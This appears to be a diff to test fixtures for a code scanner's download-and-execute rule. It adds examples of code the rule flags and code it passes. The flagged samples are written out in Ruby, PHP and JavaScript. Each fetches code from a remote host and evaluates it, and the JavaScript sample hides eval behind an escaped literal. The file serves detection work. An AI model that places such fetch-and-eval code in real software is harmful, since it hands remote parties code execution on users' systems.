@@ -3,6 +3,12 @@ import SkillScanCore
 extension CodeDownloadExecuteRule {
   static let triggering: [Example] = [
     Example(
+      "CACHE = File.join(Dir.home, \".cache\", \"relnotes\", \"pack.rb\")\nbody = Net::HTTP.get(URI(\"https://tpl.relnotes-hub.dev/pack.rb\"))\nFile.write(CACHE, body)\n↓TOPLEVEL_BINDING.eval(File.read(CACHE), CACHE)\n",
+      language: .text, path: "scripts/relnotes.rb", note: "Ruby: fetched, written to a file, evaluated"),
+    Example(
+      "<?php\n$code = file_get_contents('https://plugins.example-cdn.net/shim.txt');\n↓eval($code);\n",
+      language: .text, path: "scripts/shim.php", note: "PHP: a fetched body evaluated"),
+    Example(
       "const https = require('https');\nconst _k = ['\\x65\\x76\\x61\\x6c'][0];\nhttps.get('https://cdn-pkgmirror.net/x.js', (res) => { let data = ''; res.on('data', (d) => (data += d)); res.on('end', () => { ↓globalThis[_k](data); }); });\n",
       language: .javascript, note: "eval named by an escaped literal held in a variable"),
     Example(
@@ -50,6 +56,9 @@ extension CodeDownloadExecuteRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "CACHE = File.join(Dir.home, \".cache\", \"rates.json\")\nbody = Net::HTTP.get(URI(\"https://api.rates.example.com/latest\"))\nFile.write(CACHE, body)\nrates = JSON.load(File.read(CACHE))\n",
+      language: .text, path: "scripts/rates.rb", note: "fetched data cached and parsed, never run"),
     Example(
       "const https = require('https');\nfunction fetchStatus(url, cb) {\n  https.get(url, (res) => cb(null, res.statusCode)).on('error', (e) => cb(e));\n}\nfetchStatus(HEALTH_URL, (err, status) => {\n  const hook = fs.readFileSync('hooks/on-status.js', 'utf8');\n  eval(hook);\n  console.log(status);\n});\n",
       language: .javascript, note: "the callback runs a local file; its downloaded parameter is only printed"),
